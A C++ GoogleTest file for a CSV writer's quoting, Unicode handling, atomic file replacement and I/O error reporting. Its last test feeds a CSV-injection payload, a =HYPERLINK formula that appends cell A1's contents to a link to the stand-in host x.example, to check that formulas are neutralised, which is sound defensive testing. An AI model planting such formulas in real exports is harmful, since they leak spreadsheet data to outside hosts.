// CsvWriter: when it quotes, how it replaces files, how it reports failures.
#include <signal.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <filesystem>
#include <string>
#include <vector>

#include "cardex/io/csv.h"
#include "tests/support/test_env.h"

namespace cardex {
namespace {

std::string Write(std::initializer_list<std::string_view> fields) {
  std::string out;
  auto writer = CsvWriter::ToString(&out);
  EXPECT_TRUE(writer->WriteRow(fields).ok());
  EXPECT_TRUE(writer->Close().ok());
  return out;
}

std::vector<std::string> DirEntries(const std::filesystem::path& dir) {
  std::vector<std::string> names;
  for (const auto& e : std::filesystem::directory_iterator(dir)) names.push_back(e.path().filename().string());
  std::sort(names.begin(), names.end());
  return names;
}

TEST(CsvWriter, QuotesOnlyWhenNeeded) {
  EXPECT_EQ(Write({"a", "b c", ""}), "a,b c,\n");
  EXPECT_EQ(Write({"a,b"}), "\"a,b\"\n");
  EXPECT_EQ(Write({"say \"hi\""}), "\"say \"\"hi\"\"\"\n");
  EXPECT_EQ(Write({"\""}), "\"\"\"\"\n");
  EXPECT_EQ(Write({"a\nb", "c\rd", "e\r\nf"}), "\"a\nb\",\"c\rd\",\"e\r\nf\"\n");
  EXPECT_EQ(Write({" a", "a ", "\ta", "a\t"}), "\" a\",\"a \",\"\ta\",\"a\t\"\n");
}

TEST(CsvWriter, UnicodeIsWrittenAsIs) {
  // NFD text and an inner no-break space need no quotes.
  EXPECT_EQ(Write({"Nguye\u0302\u0303n", "a\u00A0b", "Đức"}), "Nguye\u0302\u0303n,a\u00A0b,Đức\n");
  // Leading or trailing Unicode white space is quoted, like ASCII space.
  EXPECT_EQ(Write({"\u00A0a", "a\u00A0", "a\u3000"}), "\"\u00A0a\",\"a\u00A0\",\"a\u3000\"\n");
  // A leading U+FEFF would be taken for a byte-order mark at the start of a file.
  EXPECT_EQ(Write({"\uFEFFx"}), "\"\uFEFFx\"\n");
  // A trailing combining mark is not white space.
  EXPECT_EQ(Write({"e\u0301"}), "e\u0301\n");
}

TEST(CsvWriter, LoneEmptyFieldIsQuoted) {
  // An empty line could be skipped by other readers; "" cannot.
  EXPECT_EQ(Write({""}), "\"\"\n");
  EXPECT_EQ(Write({"", ""}), ",\n");
}

TEST(CsvWriter, FileIsRenamedIntoPlaceOnClose) {
  testing::TempDir dir;
  const std::string path = dir.file("out.csv");
  testing::WriteFile(path, "old content\n");
  auto writer = CsvWriter::OpenFile(path);
  ASSERT_TRUE(writer.ok()) << writer.status().message();
  ASSERT_TRUE((*writer)->WriteRow({"code", "name"}).ok());
  ASSERT_TRUE((*writer)->WriteRow({"LD", "Lâm Đồng"}).ok());
  // Until Close() the old file is untouched.
  EXPECT_EQ(testing::ReadFile(path), "old content\n");
  ASSERT_TRUE((*writer)->Close().ok());
  EXPECT_TRUE((*writer)->Close().ok());  // idempotent
  EXPECT_EQ(testing::ReadFile(path), "code,name\nLD,Lâm Đồng\n");
  EXPECT_EQ(DirEntries(dir.path()), std::vector<std::string>{"out.csv"});
  writer->reset();
  EXPECT_EQ(testing::ReadFile(path), "code,name\nLD,Lâm Đồng\n");
}

TEST(CsvWriter, NewFileIsReadable) {
  testing::TempDir dir;
  const std::string path = dir.file("new.csv");
  auto writer = CsvWriter::OpenFile(path);
  ASSERT_TRUE(writer.ok());
  ASSERT_TRUE((*writer)->Close().ok());
  struct stat st;
  ASSERT_EQ(::stat(path.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0644u);
  EXPECT_EQ(testing::ReadFile(path), "");
}

TEST(CsvWriter, DestroyedWithoutCloseLeavesNothing) {
  testing::TempDir dir;
  const std::string path = dir.file("out.csv");
  {
    auto writer = CsvWriter::OpenFile(path);
    ASSERT_TRUE(writer.ok());
    for (int i = 0; i < 100000; ++i) ASSERT_TRUE((*writer)->WriteRow({"some", "row", "data"}).ok());
  }
  EXPECT_TRUE(DirEntries(dir.path()).empty());
}

TEST(CsvWriter, LargeOutputIsComplete) {
  testing::TempDir dir;
  const std::string path = dir.file("big.csv");
  auto writer = CsvWriter::OpenFile(path);
  ASSERT_TRUE(writer.ok());
  std::string want;
  for (int i = 0; i < 200000; ++i) {
    const std::string n = std::to_string(i);
    ASSERT_TRUE((*writer)->WriteRow({n, "x,y"}).ok());
    want += n + ",\"x,y\"\n";
  }
  ASSERT_TRUE((*writer)->Close().ok());
  EXPECT_EQ(testing::ReadFile(path), want);
}

TEST(CsvWriter, DirectoryPathIsAnIoError) {
  testing::TempDir dir;
  auto writer = CsvWriter::OpenFile(dir.path().string());
  ASSERT_FALSE(writer.ok());
  EXPECT_EQ(writer.status().code(), StatusCode::kIoError);
  EXPECT_NE(writer.status().message().find("is a directory"), std::string::npos);
}

TEST(CsvWriter, MissingDirectoryIsAnIoError) {
  testing::TempDir dir;
  const std::string path = dir.file("no/such/dir/out.csv");
  auto writer = CsvWriter::OpenFile(path);
  ASSERT_FALSE(writer.ok());
  EXPECT_EQ(writer.status().code(), StatusCode::kIoError);
  EXPECT_EQ(writer.status().message().rfind("cannot write " + path + ": No such file or directory", 0), 0u)
      << writer.status().message();
}

TEST(CsvWriter, ParentThatIsAFileIsAnIoError) {
  testing::TempDir dir;
  testing::WriteFile(dir.file("plain"), "x");
  const std::string path = dir.file("plain/out.csv");
  auto writer = CsvWriter::OpenFile(path);
  ASSERT_FALSE(writer.ok());
  EXPECT_EQ(writer.status().code(), StatusCode::kIoError);
  EXPECT_EQ(writer.status().message().rfind("cannot write " + path + ": Not a directory", 0), 0u)
      << writer.status().message();
}

TEST(CsvWriter, UnwritableDirectoryIsAnIoError) {
  if (::geteuid() == 0) GTEST_SKIP() << "root ignores directory permissions";
  testing::TempDir dir;
  const std::string locked = dir.file("locked");
  std::filesystem::create_directory(locked);
  ::chmod(locked.c_str(), 0555);
  const std::string path = locked + "/out.csv";
  auto writer = CsvWriter::OpenFile(path);
  ::chmod(locked.c_str(), 0755);
  ASSERT_FALSE(writer.ok());
  EXPECT_EQ(writer.status().code(), StatusCode::kIoError);
  EXPECT_EQ(writer.status().message().rfind("cannot write " + path + ": Permission denied", 0), 0u)
      << writer.status().message();
}

// A full disk, simulated with a file size limit: the error comes back from
// WriteRow or Close, names the path, and no file is left behind.
TEST(CsvWriter, WriteFailureIsAnIoErrorAndLeavesNoFile) {
  testing::TempDir dir;
  const std::string path = dir.file("out.csv");
  struct rlimit old_limit;
  ASSERT_EQ(::getrlimit(RLIMIT_FSIZE, &old_limit), 0);
  auto old_handler = ::signal(SIGXFSZ, SIG_IGN);
  struct rlimit small = old_limit;
  small.rlim_cur = 64 * 1024;
  ASSERT_EQ(::setrlimit(RLIMIT_FSIZE, &small), 0);

  Status status;
  {
    auto writer = CsvWriter::OpenFile(path);
    ASSERT_TRUE(writer.ok());
    for (int i = 0; i < 300000 && status.ok(); ++i) status = (*writer)->WriteRow({"0123456789", "abcdefghij"});
    Status closed = (*writer)->Close();
    if (status.ok()) status = closed;
    EXPECT_FALSE(closed.ok());
  }
  ::setrlimit(RLIMIT_FSIZE, &old_limit);
  ::signal(SIGXFSZ, old_handler);

  ASSERT_FALSE(status.ok());
  EXPECT_EQ(status.code(), StatusCode::kIoError);
  EXPECT_EQ(status.message().rfind("cannot write " + path + ": File too large", 0), 0u) << status.message();
  EXPECT_TRUE(DirEntries(dir.path()).empty());
}

// CSV injection (OWASP): files for people get an apostrophe before a value a
// spreadsheet would run; the machine contract stays exact and counts them.
TEST(CsvWriter, FilesForPeopleNeutraliseFormulasAndMachineFilesStayExact) {
  const std::string link = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
  std::vector<std::string_view> row = {link, "+84912345678", "-1+1", "@SUM(A1)", "\tx", "Nguyễn =A1", "", "12"};
  std::string person, machine;
  auto p = CsvWriter::ToString(&person, CsvAudience::kPerson);
  auto m = CsvWriter::ToString(&machine);
  ASSERT_TRUE(p->WriteRow(row).ok());
  ASSERT_TRUE(m->WriteRow(row).ok());
  EXPECT_EQ(person,
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",'+84912345678,'-1+1,'@SUM(A1),"
            "'\tx,Nguyễn =A1,,12\n");
  EXPECT_EQ(machine,
            "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",+84912345678,-1+1,@SUM(A1),"
            "\"\tx\",Nguyễn =A1,,12\n");
  EXPECT_EQ(p->formula_fields(), 5);
  EXPECT_EQ(m->formula_fields(), 5);
}

}  // namespace
}  // namespace cardex
